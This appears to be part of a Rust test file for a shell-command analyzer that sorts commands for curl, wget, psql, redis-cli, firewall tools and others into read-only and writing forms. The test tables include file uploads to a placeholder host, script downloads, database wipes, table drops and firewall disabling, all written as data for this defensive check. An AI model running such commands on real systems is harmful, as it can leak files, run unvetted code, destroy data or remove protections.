            "curl -I https://example.com",
            "curl -fsSL -H 'Accept: application/json' http://x/api",
            "curl -X GET http://x",
        ],
        &[
            "curl -o /tmp/x http://x",
            "curl -O http://x/y",
            "curl -d a=b http://x",
            "curl -X POST http://x",
            "curl -XDELETE http://x",
            "curl -T f ftp://x",
            "curl --data-binary @f http://x",
            "curl -K cfg http://x",
            "curl --json '{}' http://x",
        ],
    ),
    (
        "wget",
        &[
            "wget -qO- http://x",
            "wget -O - http://x",
            "wget --spider http://x",
        ],
        &[
            "wget http://x/y.sh",
            "wget -O /tmp/x http://x",
            "wget --post-data=a http://x",
            "wget -i list",
        ],
    ),
    (
        "openssl",
        &[
            "openssl x509 -in c.pem -noout -text",
            "openssl s_client -connect x:443 -servername x",
            "openssl version",
            "openssl rand -hex 8",
        ],
        &[
            "openssl genrsa -out k.pem 2048",
            "openssl req -new -keyout k -out r",
            "openssl x509 -in c -engine e",
            "openssl ca -in r",
            "openssl",
        ],
    ),
    (
        "ssh-keygen",
        &[
            "ssh-keygen -lf key.pub",
            "ssh-keygen -F host",
            "ssh-keygen -y -f key",
        ],
        &["ssh-keygen -t ed25519", "ssh-keygen -R host"],
    ),
    (
        "crontab",
        &["crontab -l", "crontab -l -u www"],
        &["crontab -r", "crontab -e", "crontab x", "crontab -"],
    ),
    (
        "nginx",
        &["nginx -t", "nginx -T", "nginx -V"],
        &["nginx -s reload", "nginx", "nginx -s stop"],
    ),
    (
        "apachectl",
        &["apachectl -t", "apachectl -S"],
        &["apachectl graceful", "apachectl stop"],
    ),
    (
        "apache2ctl",
        &["apache2ctl configtest", "apache2ctl -M"],
        &["apache2ctl restart"],
    ),
    (
        "haproxy",
        &["haproxy -c -f /etc/haproxy/haproxy.cfg"],
        &["haproxy -f /etc/haproxy/haproxy.cfg"],
    ),
    (
        "sshd",
        &["sshd -T", "sshd -t -f /etc/ssh/sshd_config"],
        &["sshd", "sshd -D"],
    ),
    (
        "visudo",
        &["visudo -c"],
        &["visudo", "visudo -f /etc/sudoers.d/x"],
    ),
    (
        "ufw",
        &["ufw status verbose", "ufw show added"],
        &["ufw disable", "ufw allow 22", "ufw reset"],
    ),
    (
        "firewall-cmd",
        &[
            "firewall-cmd --list-all",
            "firewall-cmd --state",
            "firewall-cmd --zone=public --list-ports",
        ],
        &[
            "firewall-cmd --add-port=80/tcp",
            "firewall-cmd --reload",
            "firewall-cmd --panic-on",
        ],
    ),
    (
        "fail2ban-client",
        &["fail2ban-client status sshd"],
        &[
            "fail2ban-client set sshd unbanip 1.2.3.4",
            "fail2ban-client stop",
        ],
    ),
    (
        "certbot",
        &["certbot certificates"],
        &["certbot renew", "certbot delete --cert-name x"],
    ),
    (
        "sudo",
        &[
            "sudo -l",
            "sudo -n true",
            "sudo -u postgres psql -c 'select 1'",
            "sudo systemctl status nginx",
            "sudo -i",
        ],
        &[
            "sudo -e /etc/hosts",
            "sudo systemctl restart nginx",
            "sudo rm /tmp/x",
        ],
    ),
    (
        "redis-cli",
        &[
            "redis-cli ping",
            "redis-cli INFO memory",
            "redis-cli -h db get key",
            "redis-cli config get maxmemory",
        ],
        &[
            "redis-cli flushall",
            "redis-cli set a b",
            "redis-cli config set x y",
            "redis-cli del k",
        ],
    ),
    (
        "psql",
        &[
            "psql -c 'select count(*) from orders'",
            "psql -d app -c 'SELECT 1' -c 'show work_mem'",
            "psql -l",
            "psql <<< 'select 1'",
            "echo 'select 1' | psql",
        ],
        &[
            "psql -c 'delete from t where id = 1'",
            "psql -c 'update t set a = 1 where id = 2'",
            "psql -f x.sql",
            "psql -c 'select 1' -o /tmp/out",
            "psql -c \"$SQL\"",
            "psql -c 'drop table t'",
            "psql",
        ],
    ),
    (
        "mysql",
        &["mysql -e 'SELECT 1'", "mysql -e 'show databases'"],
        &[
            "mysql -e 'DELETE FROM t WHERE a = 1'",
            "mysql db < dump.sql",
            "mysql --tee=/tmp/x -e 'select 1'",
        ],
    ),
    (
        "mariadb",
        &["mariadb -e 'select 1'"],
        &["mariadb -e 'insert into t values (1)'"],
    ),
];

fn kind(line: &str) -> (ShellKind, String) {
    let a = analyze_shell(line);
    let why: Vec<String> = a
        .runs
        .iter()
        .filter(|r| r.kind != ShellKind::Read)
        .map(|r| r.reason.clone())
        .chain(
            a.findings
                .iter()
                .map(|f| format!("{}: {}", f.rule, f.reason)),
        )
        .collect();
    let kind = if a.findings.is_empty() && a.parse_error.is_none() {
        a.kind()
    } else {
        ShellKind::Unknown
    };
    (kind, why.join("; "))
}

#[test]
fn every_program_reads_in_its_read_forms_and_not_in_its_writing_forms() {
    let mut failures = Vec::new();
    for (program, reads, writes) in TABLE {
        for line in *reads {
            let (k, why) = kind(line);
            if k != ShellKind::Read {
                failures.push(format!("{program}: {line:?} should read, is {k} ({why})"));
            }
        }
        for line in *writes {
            let (k, _) = kind(line);
            if k == ShellKind::Read {
                failures.push(format!("{program}: {line:?} should not be a read"));
            }
        }
        assert!(
            !writes.is_empty(),
            "{program} has no writing form in the table"
        );
    }
    assert!(
        failures.is_empty(),
        "{} failures:\n{}",
        failures.len(),
        failures.join("\n")
    );
}

#[test]
fn the_table_covers_every_program_on_the_list() {
    let listed: BTreeSet<&str> = entries().flat_map(|e| e.names.iter().copied()).collect();
    let tested: BTreeSet<&str> = TABLE.iter().map(|(p, _, _)| *p).collect();
    let untested: Vec<&&str> = listed.difference(&tested).collect();
    let unlisted: Vec<&&str> = tested.difference(&listed).collect();
    assert!(untested.is_empty(), "programs without a row: {untested:?}");
    assert!(
        unlisted.is_empty(),
        "rows for programs not on the list: {unlisted:?}"
    );
    // Each name is on the list once.
    let all: Vec<&str> = entries().flat_map(|e| e.names.iter().copied()).collect();
    assert_eq!(all.len(), listed.len(), "a program is listed twice");
    let (programs, forms) = size();
    eprintln!("read-only list: {programs} programs, {forms} argument forms");
    let read_forms: usize = TABLE.iter().map(|(_, r, _)| r.len()).sum();
    let write_forms: usize = TABLE.iter().map(|(_, _, w)| w.len()).sum();
    eprintln!("table: {read_forms} read forms, {write_forms} writing forms tested");
}

#[test]
fn programs_not_on_the_list_are_unknown_and_known_writers_write() {
    for line in [
        "frobnicate --now",
        "./deploy.sh",
        "make",
        "npm run x",
        "terraform apply",
    ] {
        assert_eq!(kind(line).0, ShellKind::Unknown, "{line}");
    }
    for line in [
        "rm x",
        "mv a b",
        "cp a b",
        "chmod 600 x",
        "touch x",
        "mkdir d",
        "pkill x",
        "apt-get install x",
    ] {
        let a = analyze_shell(line);
        assert_eq!(a.kind(), ShellKind::Write, "{line}");
    }
}
